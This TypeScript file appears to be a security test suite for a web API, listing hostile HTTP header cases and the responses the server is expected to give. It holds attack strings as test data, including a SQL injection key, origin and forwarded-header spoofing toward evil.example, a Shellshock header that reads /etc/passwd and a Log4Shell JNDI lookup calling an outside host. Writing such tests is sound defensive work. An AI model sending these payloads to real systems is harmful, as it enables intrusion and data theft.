import { ambiguous, healthy, posts, problem, unauthorized, wrong } from "./answers.ts"
import type { HostileCase } from "./case.ts"
import { creating, good, request } from "./request.ts"

const json = "Content-Type: application/json"

export const headers: ReadonlyArray<HostileCase> = [
  {
    title: "17 kB of one header",
    send: request("GET /healthz", { headers: [`X: ${"a".repeat(17_000)}`] }),
    answers: [problem(431, "headers_too_large", "The headers are larger than 16 KiB")],
    closes: true
  },
  {
    title: "a name of 17 kB",
    send: request("GET /healthz", { headers: [`${"a".repeat(17_000)}: 1`] }),
    answers: [problem(431, "headers_too_large", "The headers are larger than 16 KiB")],
    closes: true
  },
  {
    title: "a hundred headers too many",
    send: request("GET /healthz", { headers: Array.from({ length: 200 }, (_, index) => `X-${index}: 1`) }),
    answers: [problem(431, "headers_too_large", "There are more than 100 headers")],
    closes: true
  },
  {
    title: "two thousand headers of the same name",
    send: request("GET /healthz", { headers: Array.from({ length: 2000 }, () => "X: 1") }),
    answers: [problem(431, "headers_too_large", "The headers are larger than 16 KiB")],
    closes: true
  },
  {
    title: "a cookie of 15 kB",
    send: request("GET /v1/notifications?limit=1", {
      anonymous: true,
      headers: [`Cookie: __Host-session=${"a".repeat(15_000)}`]
    }),
    answers: [unauthorized("The session has ended; log in again")]
  },
  {
    title: "a thousand cookies",
    send: request("GET /v1/notifications?limit=1", { anonymous: true, headers: [`Cookie: ${"a=b; ".repeat(1000)}`] }),
    answers: [unauthorized("Send an API key: Authorization: Bearer sps_…")]
  },
  {
    title: "a session of nothing",
    send: request("GET /v1/notifications?limit=1", { anonymous: true, headers: ["Cookie: __Host-session="] }),
    answers: [unauthorized("Send an API key: Authorization: Bearer sps_…")]
  },
  {
    title: "a session under another name",
    send: request("GET /v1/notifications?limit=1", { anonymous: true, headers: ["Cookie: session=abc"] }),
    answers: [unauthorized("Send an API key: Authorization: Bearer sps_…")]
  },
  {
    title: "a session of the prototype",
    send: request("GET /v1/notifications?limit=1", {
      anonymous: true,
      headers: ["Cookie: __proto__=a; constructor=b"]
    }),
    answers: [unauthorized("Send an API key: Authorization: Bearer sps_…")]
  },
  {
    title: "a session that another one is put before",
    send: request("GET /v1/notifications?limit=1", {
      anonymous: true,
      headers: ["Cookie: __Host-session=chosen; {cookie}"]
    }),
    answers: [unauthorized("The session has ended; log in again")]
  },
  {
    title: "a good session beside a bad key",
    send: request("GET /v1/notifications?limit=1", {
      anonymous: true,
      headers: ["Authorization: Bearer nonsense", "Cookie: {cookie}"]
    }),
    answers: [unauthorized("This is not an API key; it may be cut off or mistyped")]
  },
  {
    title: "a change by a session from nowhere",
    send: request("POST /v1/notifications/read-all", { anonymous: true, headers: ["Cookie: {cookie}"] }),
    answers: [
      problem(
        403,
        "cross_origin",
        "A session's request has to come from https://posts.example, and to say so in Sec-Fetch-Site or Origin"
      )
    ]
  },
  {
    title: "a change by a session from another site",
    send: request("POST /v1/notifications/read-all", {
      anonymous: true,
      headers: ["Cookie: {cookie}", "Origin: https://evil.example"]
    }),
    answers: [
      problem(
        403,
        "cross_origin",
        "A session's request has to come from https://posts.example, and to say so in Sec-Fetch-Site or Origin"
      )
    ]
  },
  {
    title: "a change by a session from no origin",
    send: request("POST /v1/notifications/read-all", {
      anonymous: true,
      headers: ["Cookie: {cookie}", "Origin: null"]
    }),
    answers: [
      problem(
        403,
        "cross_origin",
        "A session's request has to come from https://posts.example, and to say so in Sec-Fetch-Site or Origin"
      )
    ]
  },
  {
    title: "a change by a session from a sibling site",
    send: request("POST /v1/notifications/read-all", {
      anonymous: true,
      headers: ["Cookie: {cookie}", "Sec-Fetch-Site: same-site"]
    }),
    answers: [
      problem(
        403,
        "cross_origin",
        "A session's request has to come from https://posts.example, and to say so in Sec-Fetch-Site or Origin"
      )
    ]
  },
  {
    title: "a change by a session from a longer name",
    send: request("POST /v1/notifications/read-all", {
      anonymous: true,
      headers: ["Cookie: {cookie}", "Origin: https://posts.example.evil.example"]
    }),
    answers: [
      problem(
        403,
        "cross_origin",
        "A session's request has to come from https://posts.example, and to say so in Sec-Fetch-Site or Origin"
      )
    ]
  },
  {
    title: "a session for what needs a key",
    send: request("GET /v1/posts", { anonymous: true, headers: ["Cookie: {cookie}"] }),
    answers: [
      unauthorized("A session gives access to notifications only; send an API key: Authorization: Bearer sps_…")
    ]
  },
  {
    title: "a key for what needs a session",
    send: request("POST /v1/notifications/read-all"),
    answers: [problem(403, "session_required", "This is done as a person who has logged in, not with an API key")]
  },
  {
    title: "two keys",
    send: request("GET /v1/posts?limit=1", { headers: ["Authorization: Bearer nonsense"] }),
    answers: [ambiguous("The header authorization appears more than once")],
    closes: true
  },
  {
    title: "two keys in one header",
    send: request("GET /v1/posts?limit=1", { anonymous: true, headers: ["Authorization: Bearer {key}, Bearer {key}"] }),
    answers: [unauthorized("This is not an API key; it may be cut off or mistyped")]
  },
  {
    title: "a key of nothing",
    send: request("GET /v1/posts", { anonymous: true, headers: ["Authorization: Bearer"] }),
    answers: [unauthorized("Send an API key: Authorization: Bearer sps_…")]
  },
  {
    title: "a key of ten thousand letters",
    send: request("GET /v1/posts", { anonymous: true, headers: [`Authorization: Bearer ${"a".repeat(10_000)}`] }),
    answers: [unauthorized("This is not an API key; it may be cut off or mistyped")]
  },
  {
    title: "SQL for a key",
    send: request("GET /v1/posts", { anonymous: true, headers: ["Authorization: Bearer ' OR '1'='1"] }),
    answers: [unauthorized("This is not an API key; it may be cut off or mistyped")]
  },
  {
    title: "a key in the query",
    send: request("GET /v1/posts?api_key={key}&access_token={key}", { anonymous: true }),
    answers: [unauthorized("Send an API key: Authorization: Bearer sps_…")]
  },
  {
    title: "a key in the path",
    send: request("GET /v1/posts/{key}", { anonymous: true }),
    answers: [unauthorized("Send an API key: Authorization: Bearer sps_…")]
  },
  {
    title: "a key as a user's password",
    send: request("GET /v1/posts", { anonymous: true, headers: ["Authorization: Basic OnNwc18="] }),
    answers: [unauthorized("Send an API key: Authorization: Bearer sps_…")]
  },
  {
    title: "two types of one body",
    send: creating(good(), [json, "Content-Type: text/plain"]),
    answers: [ambiguous("The header content-type appears more than once")],
    closes: true
  },
  {
    title: "an idempotency key of nothing",
    send: creating(good(), [json, "Idempotency-Key:"]),
    answers: [wrong(["idempotency-key", "Expected 1 to 255 printable ASCII characters"])]
  },
  {
    title: "an idempotency key of 256 letters",
    send: creating(good(), [json, `Idempotency-Key: ${"a".repeat(256)}`]),
    answers: [wrong(["idempotency-key", "Expected 1 to 255 printable ASCII characters"])]
  },
  {
    title: "an idempotency key that is not ASCII",
    send: creating(good(), [json, "Idempotency-Key: ä"]),
    answers: [wrong(["idempotency-key", "Expected 1 to 255 printable ASCII characters"])]
  },
  {
    title: "two idempotency keys",
    send: creating(good(), [json, "Idempotency-Key: a", "Idempotency-Key: b"]),
    answers: [ambiguous("The header idempotency-key appears more than once")],
    closes: true
  },
  {
    title: "a request id that would break a log's line",
    send: request("GET /healthz", { headers: ['X-Request-Id: a","level":"error'] }),
    answers: [healthy]
  },
  {
    title: "a request id of a kilobyte",
    send: request("GET /healthz", { headers: [`X-Request-Id: ${"a".repeat(1000)}`] }),
    answers: [healthy]
  },
  {
    title: "a change of protocol to WebSocket",
    send: request("GET /healthz", {
      headers: [
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        "Sec-WebSocket-Version: 13"
      ]
    }),
    answers: [healthy]
  },
  {
    title: "a change of protocol to HTTP/2",
    send: request("GET /healthz", {
      headers: ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"]
    }),
    answers: [healthy]
  },
  {
    title: "a change of protocol with a body",
    send: request("POST /v1/posts", { headers: [json, "Connection: Upgrade", "Upgrade: nonsense"], body: "{}" }),
    answers: [wrong(["content", "This member is required"], ["platforms", "This member is required"])]
  },
  {
    title: "an expectation that nobody knows",
    send: request("GET /healthz", { headers: ["Expect: 200-ok"] }),
    answers: [problem(417, "expectation_failed", "The header Expect may only say 100-continue")],
    closes: true
  },
  {
    title: "an expectation that is met",
    send: request("POST /v1/posts", { headers: [json, "Expect: 100-continue"], body: "{}" }),
    answers: [wrong(["content", "This member is required"], ["platforms", "This member is required"])]
  },
  {
    title: "a header that asks to be dropped",
    send: request("GET /v1/posts?limit=1", { headers: ["Connection: close, Authorization"] }),
    answers: [posts],
    closes: true
  },
  {
    title: "ranges that overlap",
    send: request("GET /healthz", { headers: [`Range: bytes=${"0-,".repeat(1000)}0-`] }),
    answers: [healthy]
  },
  {
    title: "types that nobody speaks",
    send: request("GET /v1/posts?limit=1", { headers: ["Accept: text/nonsense;q=2, */*;q=nonsense"] }),
    answers: [posts]
  },
  {
    title: "an address of the caller's choice",
    send: request("GET /v1/posts?limit=1", {
      headers: [
        "X-Forwarded-For: 127.0.0.1",
        "X-Forwarded-Proto: http",
        "X-Forwarded-Host: evil.example",
        "X-Real-IP: 127.0.0.1",
        "Forwarded: for=127.0.0.1;proto=http"
      ]
    }),
    answers: [posts]
  },
  {
    title: "another path in a header",
    send: request("GET /v1/posts?limit=1", { headers: ["X-Original-URL: /sandbox", "X-Rewrite-URL: /sandbox"] }),
    answers: [posts]
  },
  {
    title: "a shell's function",
    send: request("GET /healthz", {
      headers: ["User-Agent: () { :;}; /bin/cat /etc/passwd", "Referer: ${jndi:ldap://evil.example/a}"]
    }),
    answers: [healthy]
  }
]
